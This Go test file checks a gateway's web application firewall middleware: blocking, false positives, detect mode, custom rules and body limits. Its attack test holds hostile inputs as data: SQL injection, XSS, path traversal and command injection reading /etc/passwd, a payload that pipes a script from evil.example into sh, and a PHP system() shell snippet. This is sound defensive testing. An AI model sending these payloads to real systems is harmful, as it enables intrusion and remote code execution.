package waf

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/guan-gateway/guan/config/dynamic"
	"github.com/guan-gateway/guan/middlewares"
	"github.com/guan-gateway/guan/middlewares/internal/mwtest"
)

// echo is the service: it reads the body and answers what it got, so a
// test can check the body still arrives whole after inspection.
var echo = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	w.Header().Set("Content-Type", "text/plain")
	fmt.Fprintf(w, "%s %s %d", r.Method, r.URL.Path, len(b))
})

var (
	crsOnce sync.Once
	crsWAF  http.Handler
	crsLog  = &mwtest.Logs{}
)

// defaultWAF is the CRS at paranoia level 1, compiled once for the tests
// (compiling the CRS takes a moment).
func defaultWAF(t testing.TB) http.Handler {
	crsOnce.Do(func() {
		h, err := New(middlewares.Env{Name: "waf@file", Logger: crsLog.Logger()}, dynamic.WAF{}, echo)
		if err != nil {
			t.Fatal(err)
		}
		crsWAF = h
	})
	return crsWAF
}

type req struct {
	method, target, ctype, body string
	hdr                         map[string]string
}

func (q req) send(h http.Handler) *httptest.ResponseRecorder {
	var body io.Reader
	if q.body != "" {
		body = strings.NewReader(q.body)
	}
	r := httptest.NewRequest(q.method, "http://shop.example.com"+q.target, body)
	r.RemoteAddr = "198.51.100.23:53211"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	r.Header.Set("Accept", "application/json, text/plain, */*")
	r.Header.Set("Accept-Language", "en-US,en;q=0.8,zh-CN;q=0.5")
	if q.ctype != "" {
		r.Header.Set("Content-Type", q.ctype)
	}
	for k, v := range q.hdr {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

func TestAttacksBlockedAtParanoiaLevel1(t *testing.T) {
	h := defaultWAF(t)
	for name, q := range map[string]req{
		"sql injection in query":      {method: "GET", target: "/products?id=1%27%20OR%20%271%27%3D%271"},
		"sql injection union":         {method: "GET", target: "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--"},
		"sql injection in json":       {method: "POST", target: "/api/login", ctype: "application/json", body: `{"user":"admin' --","password":"x' OR 1=1 --"}`},
		"xss script tag":              {method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
		"xss event handler in form":   {method: "POST", target: "/comments", ctype: "application/x-www-form-urlencoded", body: "comment=" + url.QueryEscape(`<img src=x onerror=alert(1)>`)},
		"path traversal":              {method: "GET", target: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd"},
		"command injection":           {method: "GET", target: "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
		"command injection backticks": {method: "POST", target: "/api/run", ctype: "application/json", body: "{\"cmd\":\"`wget http://evil.example/x.sh | sh`\"}"},
		"scanner user agent":          {method: "GET", target: "/", hdr: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
		"nikto":                       {method: "GET", target: "/admin", hdr: map[string]string{"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"}},
		"php code injection":          {method: "GET", target: "/index.php?page=" + url.QueryEscape("<?php system($_GET['c']); ?>")},
	} {
		w := q.send(h)
		if w.Code != http.StatusForbidden {
			t.Errorf("%s: %d, want 403", name, w.Code)
			continue
		}
		id := w.Header().Get("X-Request-Id")
		if id == "" || !strings.Contains(w.Body.String(), id) {
			t.Errorf("%s: 403 without the request id: %q %v", name, w.Body.String(), w.Header())
		}
		if !strings.Contains(crsLog.String(), "id="+id) || !strings.Contains(crsLog.String(), "matched=") {
			t.Errorf("%s: no log line naming the rules for %s", name, id)
		}
	}
}

// corpus is ordinary API and browser traffic: queries, JSON bodies, forms,
// uploads, REST methods.
func corpus() []req {
	var out []req
	names := []string{"Alice Martin", "Bob O'Neill", "Chloé Dubois", "张伟", "Nguyễn Văn A", "Zoë Smith-Jones", "María José", "Søren Kierkegaard"}
	cities := []string{"São Paulo", "New York", "Zürich", "Kraków", "上海", "Montréal"}
	for i := range 40 {
		n := names[i%len(names)]
		c := cities[i%len(cities)]
		out = append(out,
			req{method: "GET", target: fmt.Sprintf("/api/v1/users?page=%d&limit=20&sort=-created_at&status=active,pending", i)},
			req{method: "GET", target: "/api/v1/search?q=" + url.QueryEscape(n+" "+c) + "&lang=en"},
			req{method: "POST", target: "/api/v1/orders", ctype: "application/json", body: fmt.Sprintf(
				`{"customer":{"name":%q,"email":"user%d@example.com","phone":"+1-555-01%02d"},"items":[{"sku":"SKU-%04d","qty":%d,"price":19.99}],"shipping":{"city":%q,"zip":"%05d","notes":"Leave at the door, it's fine if nobody's home."},"coupon":null,"gift":%t}`,
				n, i, i, i, i%5+1, c, 10000+i, i%2 == 0)},
			req{method: "PATCH", target: fmt.Sprintf("/api/v1/orders/%d", 1000+i), ctype: "application/json", body: fmt.Sprintf(`{"status":"shipped","tracking":"1Z999AA1%08d","updatedAt":"2026-11-30T10:%02d:00Z"}`, i, i%60)},
			req{method: "POST", target: "/account/profile", ctype: "application/x-www-form-urlencoded", body: url.Values{
				"display_name": {n}, "bio": {"Coffee lover & weekend hiker. Visiting " + c + " next year!"}, "website": {"https://example.org/~user" + fmt.Sprint(i)},
			}.Encode()},
		)
		if i%4 == 0 {
			out = append(out,
				req{method: "DELETE", target: fmt.Sprintf("/api/v1/carts/%d/items/%d", i, i*7)},
				req{method: "PUT", target: fmt.Sprintf("/api/v1/settings/%d", i), ctype: "application/json", body: `{"theme":"dark","notifications":{"email":true,"sms":false},"timezone":"Europe/Paris"}`},
				req{method: "GET", target: "/static/app.4f9c2b.js", hdr: map[string]string{"Cookie": fmt.Sprintf("session=s%%3A%x.abc; _ga=GA1.2.%d.1700000000", i*7919, i)}},
				req{method: "GET", target: "/api/v1/reports?from=2026-01-01&to=2026-03-31&fields=revenue,orders&format=csv", hdr: map[string]string{"Authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"}},
			)
		}
	}
	return out
}

func upload(t *testing.T, name, content string) req {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	mw.WriteField("title", "Quarterly report")
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write([]byte(content))
	mw.Close()
	return req{method: "POST", target: "/api/v1/files", ctype: mw.FormDataContentType(), body: b.String()}
}

func TestNoFalsePositivesOnOrdinaryTraffic(t *testing.T) {
	h := defaultWAF(t)
	reqs := append(corpus(),
		upload(t, "notes.txt", "Meeting notes\n- ship v2 on Friday\n- review budget\n"),
		upload(t, "data.csv", "id,name,amount\n1,Widget,9.99\n2,Gadget,24.50\n"),
		upload(t, "photo.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"),
	)
	if len(reqs) < 200 {
		t.Fatalf("corpus has %d requests, want at least 200", len(reqs))
	}
	for _, q := range reqs {
		w := q.send(h)
		if w.Code != http.StatusOK {
			t.Errorf("false positive: %s %s (%s) → %d", q.method, q.target, q.ctype, w.Code)
			continue
		}
		if want := fmt.Sprintf("%d", len(q.body)); !strings.HasSuffix(w.Body.String(), " "+want) {
			t.Errorf("%s %s: the service got %q, want the whole body of %s bytes", q.method, q.target, w.Body.String(), want)
		}
	}
}

func TestDetectModeLogsOnly(t *testing.T) {
	var logs mwtest.Logs
	results := map[string]int{}
	h, err := New(middlewares.Env{Name: "w@file", Logger: logs.Logger(), Decision: func(r string) { results[r]++ }},
		dynamic.WAF{Mode: "detect"}, echo)
	if err != nil {
		t.Fatal(err)
	}
	w := req{method: "GET", target: "/products?id=1%27%20OR%20%271%27%3D%271"}.send(h)
	if w.Code != 200 {
		t.Fatalf("detect mode blocked: %d", w.Code)
	}
	if results[resultDetected] != 1 || !strings.Contains(logs.String(), "would have been blocked") {
		t.Fatalf("detect mode: decisions %v, logs:\n%s", results, logs.String())
	}
}

func TestOwnDirectivesAndFiles(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "extra.conf"), []byte(`SecRule REQUEST_HEADERS:X-Debug "@streq on" "id:10002,phase:1,deny,status:418,log,msg:'debug header'"`+"\n"), 0o644)
	h, err := New(middlewares.Env{BaseDir: dir}, dynamic.WAF{
		CRS:             ptr(false),
		Directives:      []string{`SecRule ARGS:token "@rx ^[a-f0-9]{32}$" "id:10001,phase:2,pass,nolog"`, `SecRule REQUEST_URI "@beginsWith /internal" "id:10003,phase:1,deny,status:404,log"`},
		DirectivesFiles: []string{"extra.conf"},
	}, echo)
	if err != nil {
		t.Fatal(err)
	}
	if w := (req{method: "GET", target: "/internal/x"}).send(h); w.Code != 404 {
		t.Fatalf("inline directive: %d", w.Code)
	}
	if w := (req{method: "GET", target: "/", hdr: map[string]string{"X-Debug": "on"}}).send(h); w.Code != 418 {
		t.Fatalf("directive from a file: %d", w.Code)
	}
	// Without the CRS, attacks pass: only the operator's rules apply.
	if w := (req{method: "GET", target: "/search?q=%3Cscript%3E"}).send(h); w.Code != 200 {
		t.Fatalf("crs=false still blocked: %d", w.Code)
	}
}

func TestResponseInspection(t *testing.T) {
	leaky := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte("<html>Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/index.php on line 12</html>"))
	})
	h, err := New(middlewares.Env{}, dynamic.WAF{ResponseInspection: true}, leaky)
	if err != nil {
		t.Fatal(err)
	}
	w := req{method: "GET", target: "/"}.send(h)
	if w.Code != http.StatusForbidden || strings.Contains(w.Body.String(), "mysql") {
		t.Fatalf("a response leaking a SQL error: %d %q", w.Code, w.Body.String())
	}
}

func TestBodyLimit(t *testing.T) {
	h, err := New(middlewares.Env{}, dynamic.WAF{RequestBodyLimit: 1024}, echo)
	if err != nil {
		t.Fatal(err)
	}
	if w := (req{method: "POST", target: "/upload", ctype: "application/json", body: `{"a":"` + strings.Repeat("x", 2000) + `"}`}).send(h); w.Code != http.StatusRequestEntityTooLarge {
		t.Fatalf("body over requestBodyLimit: %d, want 413", w.Code)
	}
}

func ptr[T any](v T) *T { return &v }

func TestConfigErrors(t *testing.T) {
	for _, tc := range []struct {
		cfg  dynamic.WAF
		want string
	}{
		{dynamic.WAF{ParanoiaLevel: 5}, "paranoiaLevel 5"},
		{dynamic.WAF{Mode: "monitor"}, `mode "monitor"`},
		{dynamic.WAF{CRS: ptr(false), Directives: []string{"SecRule ARGS"}}, "waf:"},
		{dynamic.WAF{CRS: ptr(false), DirectivesFiles: []string{"/nonexistent.conf"}}, "nonexistent.conf"},
	} {
		if _, err := New(middlewares.Env{}, tc.cfg, echo); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%+v: error %v, want %q", tc.cfg, err, tc.want)
		}
	}
}

// HTTP/2 and HTTP/3 requests without a body carry a Body that is not
// http.NoBody and a ContentLength of 0. They pass without a copy of the
// body; bytes that come despite the zero length are still inspected and
// still reach the service whole.
func TestZeroLengthBodies(t *testing.T) {
	h := defaultWAF(t)
	send := func(body, ctype string) *httptest.ResponseRecorder {
		r := browserRequest("POST", "/api/v1/orders", ctype, io.NopCloser(strings.NewReader(body)))
		r.ContentLength = 0
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		return w
	}
	if w := send("", ""); w.Code != http.StatusOK || w.Body.String() != "POST /api/v1/orders 0" {
		t.Fatalf("empty body: %d %q", w.Code, w.Body.String())
	}
	ok := `{"customer":{"name":"Chloé Dubois"},"items":[{"sku":"SKU-0001","qty":2}]}`
	if w := send(ok, "application/json"); w.Code != http.StatusOK || w.Body.String() != fmt.Sprintf("POST /api/v1/orders %d", len(ok)) {
		t.Fatalf("body despite a zero length: %d %q", w.Code, w.Body.String())
	}
	if w := send(`{"user":"admin' --","password":"x' OR 1=1 --"}`, "application/json"); w.Code != http.StatusForbidden {
		t.Fatalf("attack in a body despite a zero length: %d, want 403", w.Code)
	}
}
